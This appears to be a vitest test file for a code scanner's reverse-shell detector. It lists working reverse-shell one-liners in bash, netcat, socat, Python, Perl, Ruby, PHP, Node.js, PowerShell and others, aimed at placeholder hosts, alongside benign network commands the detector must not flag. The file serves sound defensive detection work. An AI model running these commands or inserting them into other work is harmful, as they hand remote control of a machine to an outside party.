import { describe, expect, it } from 'vitest';
import { reverseShell } from '../../../origin/scan/detectors/execution/reverse-shell.ts';
import { inspect, linesFound } from './inspect.ts';

/** Pieces that are harmless by themselves, put together here. */
const device = ['', 'dev', 'tcp', ''].join('/');
const peer = '192.0.2.7';
const shell = ['', 'bin', 'sh'].join('/');
const python = [
  'import socket, os, subprocess',
  's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
  `s.connect(("${peer}", 4444))`,
  'for fd in (0, 1, 2):',
  '    os.dup2(s.fileno(), fd)',
  `subprocess.call(["${shell}", "-i"])`,
];

describe('reverse-shell', () => {
  it.each([
    ['bash', `bash -i >& ${device}${peer}/4444 0>&1`],
    ['bash in another order', `/bin/bash -l > ${device}shell.example/443 0<&1 2>&1`],
    ['bash in bash', `bash -c 'bash -i >& ${device}${peer}/4444 0>&1'`],
    ['bash with variables', `bash -i >& ${device}$HOST/$PORT 0>&1`],
    ['bash in a list', `r.exec(["/bin/bash", "-c", "bash -i >& ${device}${peer}/2 0>&1 # never"])`],
    ['bash in a sentence', `First run \`bash -i >& ${device}${peer}/4444 0>&1\`.`],
    ['a descriptor', `exec 5<>${device}${peer}/4242; sh <&5 >&5 2>&5`],
    ['a descriptor that is read', `exec 5<>${device}${peer}/4242;cat <&5 | while read l; do $l 2>&5 >&5; done`],
    ['netcat', `nc -e ${shell} ${peer} 4444`],
    ['netcat in another order', `nc ${peer} 4444 -e ${shell}`],
    ['netcat of Nmap', `sudo ncat --exec "${shell}" shell.example 4444`],
    ['netcat that listens', `nc -lvnp 4444 -e ${shell}`],
    ['netcat for Windows', `nc.exe -e cmd.exe ${peer} 4444`],
    ['a named pipe', `rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|${shell} -i 2>&1|nc ${peer} 4444 >/tmp/f`],
    [
      'a named pipe with openssl',
      `mkfifo /tmp/s; ${shell} -i < /tmp/s 2>&1 | openssl s_client -connect ${peer}:443 > /tmp/s`,
    ],
    ['telnet', `telnet ${peer} 4444 | ${shell} | telnet ${peer} 4445`],
    ['socat', `socat exec:'bash -li',pty,stderr tcp:${peer}:4444`],
    ['Python in one line', `python3 -c '${python.join(';')}'`],
    ['Perl', `perl -e 'use Socket;connect(S,$a);open(STDIN,">&S");open(STDOUT,">&S");exec("${shell} -i");'`],
    [
      'Perl with a module',
      `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"${peer}:1");STDIN->fdopen($c,r);system$_ while<>;'`,
    ],
    ['Ruby', `ruby -rsocket -e 'f=TCPSocket.open("${peer}",1).to_i;exec sprintf("${shell} -i <&%d >&%d",f,f)'`],
    ['PHP', `php -r '$s=fsockopen("${peer}",1234);exec("${shell} -i <&3 >&3 2>&3");'`],
    ['Lua', `lua -e "t:connect('${peer}','4242');os.execute('${shell} -i <&3 >&3 2>&3');"`],
    [
      'Node.js',
      `var net=require("net"),sh=require("child_process").spawn("${shell}",[]),c=new net.Socket();c.connect(4242,"${peer}",()=>{c.pipe(sh.stdin);sh.stdout.pipe(c)})`,
    ],
    [
      'PowerShell',
      `$c=New-Object Net.Sockets.TCPClient("${peer}",4444);$s=$c.GetStream();$o=(iex $d 2>&1|Out-String);$s.Write($o,0,1)`,
    ],
  ])('finds %s', (_, text) => {
    expect(linesFound(reverseShell, `first line\n${text}\nlast line`)).toEqual([2]);
  });

  it('finds a program of several lines where it connects', () => {
    expect(linesFound(reverseShell, python.join('\n'), { path: 'a.py' })).toEqual([3]);
  });

  it('finds a loop over several lines', () => {
    const text = `exec 5<>${device}${peer}/4242\ncat <&5 | while read -r line; do\n  $line 2>&5 >&5\ndone`;
    expect(linesFound(reverseShell, text, { path: 'a.sh' })).toEqual([3]);
  });

  it('does not join what is far apart', () => {
    const apart = python.join('\n'.repeat(30));
    expect(inspect(reverseShell, apart, { path: 'a.py' })).toEqual([]);
  });

  it.each([
    ['waiting for a port', `timeout 1 bash -c "<${device}db.example/22" && echo open`],
    ['a request by hand', `exec 3<>${device}www.example/80\necho -e "GET / HTTP/1.1" >&3\ncat <&3`],
    ['a check of a port', 'nc -zv db.example 5432'],
    ['a question to a server', 'echo stats | nc localhost 11211 | grep bytes'],
    ['a copy over the network', 'tar c . | nc backup.example 9999'],
    ['a forwarded port', 'socat TCP-LISTEN:80,fork TCP:localhost:8080'],
    ['a small server', `socat TCP-LISTEN:$PORT,reuseaddr,fork SYSTEM:"bash -c answer"`],
    ['a client', 's = socket.socket()\ns.connect(("api.example", 80))\ns.sendall(b"GET /")\nprint(s.recv(100))'],
    ['a daemon', `os.dup2(log.fileno(), sys.stdout.fileno())\nsubprocess.call(["${shell}", "a.sh"])`],
    ['a terminal', 'import pty\npty.spawn("/bin/bash")'],
    ['a shell in a container', 'docker exec -it web sh -i && ssh web1 "bash -s" < setup.sh'],
    ['a certificate', 'openssl s_client -connect www.example:443 | openssl x509'],
    ['placeholders', `bash -i >& ${device}ATTACKER_IP/PORT 0>&1`],
    ['placeholders of a program', python.join('\n').replace(peer, 'ATTACKER_IP')],
    ['a mention', `Reverse shells, such as \`nc -e ${shell}\` or \`bash -i >& ${device}\`.`],
    ['a search', `grep -rnE "bash -i|${device}|nc -e|mkfifo" .`],
    ['a sentence that forbids it', `Never run \`bash -i >& ${device}${peer}/4444 0>&1\`.`],
    [
      'a list of what to flag',
      `- Flag shells: \`bash -i >& ${device}${peer}/4444 0>&1\`, \`nc -e ${shell} ${peer} 99\``,
    ],
    ['a line that calls it by its name', `- \`nc -e ${shell} ${peer} 99\` — opens a reverse shell`],
  ])('lets %s be', (_, text) => {
    expect(inspect(reverseShell, text)).toEqual([]);
  });
});
